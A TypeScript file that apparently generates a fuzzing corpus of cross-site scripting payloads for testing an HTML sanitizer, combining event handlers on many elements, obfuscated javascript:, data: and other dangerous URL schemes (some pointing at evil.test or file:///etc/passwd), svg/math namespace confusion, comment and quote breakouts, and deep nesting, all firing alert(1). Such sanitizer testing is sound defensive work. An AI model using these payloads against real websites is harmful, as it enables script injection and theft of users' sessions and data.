/*
 * Attacks that are combinations: every element with every kind of handler, every way to write a dangerous address in every
 * attribute that takes one, every namespace around every element that changes how the rest is read.
 */

/** Every pair of two lists. */
function pairs<A, B>(left: readonly A[], right: readonly B[]): (readonly [A, B])[] {
  return left.flatMap((a) => right.map((b) => [a, b] as const));
}

const ELEMENTS =
  `a abbr address area article audio b base blockquote body br button canvas center code details dialog div em embed
  fieldset font footer form frame h1 header hr html i iframe img input ins kbd label legend li link main map mark math
  menu meta meter nav object ol optgroup option output p picture pre progress q s section select slot small source span
  strong style sub summary sup svg table tbody td template textarea tfoot th thead time title tr track u ul var video
  x-element unknown`.split(/\s+/);

const HANDLERS =
  `onabort onafterprint onanimationstart onauxclick onbeforecopy onbeforeinput onbeforetoggle onblur oncancel oncanplay
  onchange onclick onclose oncontextmenu oncopy oncut ondblclick ondrag onerror onfocus onfocusin onformdata
  ongotpointercapture onhashchange oninput oninvalid onkeydown onload onloadstart onmessage onmousedown onmouseenter
  onmousemove onmouseover onmousewheel onpagereveal onpageshow onpaste onplay onpointerdown onpointerover onpopstate
  onreset onresize onscroll onscrollend onsearch onsecuritypolicyviolation onselect onselectstart onslotchange onsubmit
  ontimeupdate ontoggle ontouchstart ontransitionend onunload onwebkitanimationstart onwheel onunheardof`.split(/\s+/);

/** Each handler on some element, each element with some handler: every one of both, without all their products. */
function handlersOnElements(): string[] {
  const length = Math.max(ELEMENTS.length, HANDLERS.length);
  return Array.from({ length: length * 3 }, (_, at) => {
    const element = ELEMENTS[at % ELEMENTS.length];
    const handler = HANDLERS[(at + Math.floor(at / length) * 7) % HANDLERS.length];
    return `<${element} src=x href=# tabindex=0 autofocus ${handler}="alert(1)">x</${element}>`;
  });
}

const SCHEMES: readonly ((rest: string) => string)[] = [
  (rest) => `javascript:${rest}`,
  (rest) => `JaVaScRiPt:${rest}`,
  (rest) => ` javascript:${rest}`,
  (rest) => `\tjavascript:${rest}`,
  (rest) => `java\tscript:${rest}`,
  (rest) => `java\nscript:${rest}`,
  (rest) => `java\r\nscript:${rest}`,
  (rest) => `java&#9;script:${rest}`,
  (rest) => `java&Tab;script:${rest}`,
  (rest) => `java&NewLine;script:${rest}`,
  (rest) => `javascript&colon;${rest}`,
  (rest) => `javascript&#58;${rest}`,
  (rest) => `javascript&#x3A${rest}`,
  (rest) => `&#106;avascript:${rest}`,
  (rest) => `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${rest}`,
  (rest) => `&#0000106avascript:${rest}`,
  (rest) => `\u0001javascript:${rest}`,
  (rest) => `&#1;javascript:${rest}`,
  (rest) => `\u0000java\u0000script:${rest}`,
  (rest) => `&#14; javascript:${rest}`,
  (rest) => `\u00a0javascript:${rest}`,
  (rest) => `\u2028javascript:${rest}`,
  (rest) => `\ufeffjavascript:${rest}`,
  (rest) => `\u200bjavascript:${rest}`,
  (rest) => `javascript://https://a.test/%0a${rest}`,
  (rest) => `https:javascript:${rest}`,
  (rest) => `view-source:javascript:${rest}`,
  (rest) => `feed:javascript:${rest}`,
  (rest) => `vbscript:${rest}`,
  (rest) => `livescript:${rest}`,
  (rest) => `mocha:${rest}`,
  (rest) => `jar:javascript:${rest}!/`,
  (rest) => `data:text/html,<script>${rest}</script>`,
  (rest) => `data:text/html;base64,${btoa(`<script>${rest}</script>`)}`,
  (rest) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${rest}'/>`,
  (rest) => `data:,${rest}`,
  (rest) => `DATA:text/html,${rest}`,
  (rest) => `blob:https://evil.test/${rest}`,
  (rest) => `filesystem:https://evil.test/${rest}`,
  (rest) => `file:///etc/passwd#${rest}`,
  (rest) => `ftp://evil.test/${rest}`,
  (rest) => `ws://evil.test/${rest}`,
  (rest) => `intent://evil.test/#${rest}`,
  (rest) => `ms-msdt:/id ${rest}`,
  (rest) => `//evil.test/${rest}`,
  (rest) => `\\\\evil.test\\${rest}`,
  (rest) => `/${rest}`,
  (rest) => `?${rest}`,
  (rest) => `#${rest}`,
];

const ADDRESSED: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href='${address.replaceAll("'", '&#39;')}'>x</a>`,
  (address) => `<a xlink:href="${address}" href="${address}" title="${address}">x</a>`,
  (address) => `<img src="${address}" data-remote-src="${address}">`,
  (address) => `<svg><a href="${address}" xlink:href="${address}"><text y=9>x</text></a></svg>`,
  (address) => `<form action="${address}"><button formaction="${address}">x</button></form>`,
  (address) => `<iframe src="${address}"></iframe><embed src="${address}"><object data="${address}"></object>`,
];

const NAMESPACES = ['svg', 'math', 'svg><g', 'math><mrow'];
const INSIDE = [
  'desc',
  'title',
  'foreignObject',
  'mtext',
  'mi',
  'mo',
  'mn',
  'ms',
  'mglyph',
  'malignmark',
  'annotation-xml',
  'annotation-xml encoding=text/html',
  'annotation-xml encoding=application/xhtml+xml',
  'a',
  'font color=red',
  'p',
  'table',
  'select',
  'template',
];
const RAW = ['style', 'script', 'title', 'textarea', 'noscript', 'xmp', 'iframe', 'noembed', 'noframes', 'plaintext'];

function inNamespaces(): string[] {
  return pairs(pairs(NAMESPACES, INSIDE), RAW).flatMap(([[namespace, inside], raw], at) => {
    const open = `<${namespace}><${inside}><${raw}>`;
    const attack = '<img src=x onerror=alert(1)>';
    const ways = [
      `${open}${attack}</${raw}>`,
      `${open}<a title="</${raw}>${attack}">`,
      `${open}<!--</${raw}><a title="-->${attack}">`,
      `${open}</${namespace.split('>')[0]}>${attack}`,
    ];
    return [ways[at % ways.length] ?? '', ways[(at + 1) % ways.length] ?? ''];
  });
}

const ENDS_OF_COMMENTS = ['-->', '--!>', '->', '>', '--', '', '--\n>', '-- >', ']]>', '?>', '%>'];
const STARTS_OF_COMMENTS = ['<!--', '<!-->', '<!--->', '<!-- -->', '<!', '<?', '</', '<!DOCTYPE ', '<![CDATA[', '<%'];

function inComments(): string[] {
  return pairs(STARTS_OF_COMMENTS, ENDS_OF_COMMENTS).map(
    ([start, end]) => `${start}<b title="${end}<img src=x onerror=alert(1)>">x</b>${end}`,
  );
}

const QUOTES = ['"', "'", '`', '', '&quot;', '&#34', '\u201c', '\\"', '""', '"\'', '\'"'];
const AFTER = ['>', '/>', ' >', '\n>', '', '<', '//', '\u0000>', '&gt;'];

function inAttributes(): string[] {
  return pairs(pairs(QUOTES, AFTER), ['alt', 'title', 'href']).map(
    ([[quote, after], name]) => `<img ${name}=${quote}x${quote}${after}onerror=alert(1) src=x${quote}><b>`,
  );
}

const NESTED = ['b', 'a', 'p', 'table', 'td', 'details', 'blockquote', 'font', 'svg', 'math', 'form', 'select', 'nobr'];

/** Elements that close one another, in every order of two, around an attack, and very many of each. */
function nested(): string[] {
  const crossed = pairs(NESTED, NESTED).map(
    ([outer, inner]) => `<${outer}><${inner}></${outer}><img src=x onerror=alert(1)></${inner}>`,
  );
  const deep = NESTED.map((name) => `${`<${name}>`.repeat(520)}<img src=x onerror=alert(1)>`);
  const many = NESTED.map((name) => `<${name} ${'title="x" '.repeat(3_000)}onclick=alert(1)>x`);
  return [...crossed, ...deep, ...many];
}

/** Every attack that is made. */
export function generated(): string[] {
  const addresses = pairs(ADDRESSED, SCHEMES).map(([place, scheme]) => place(scheme('alert(1)')));
  return [...handlersOnElements(), ...addresses, ...inNamespaces(), ...inComments(), ...inAttributes(), ...nested()];
}
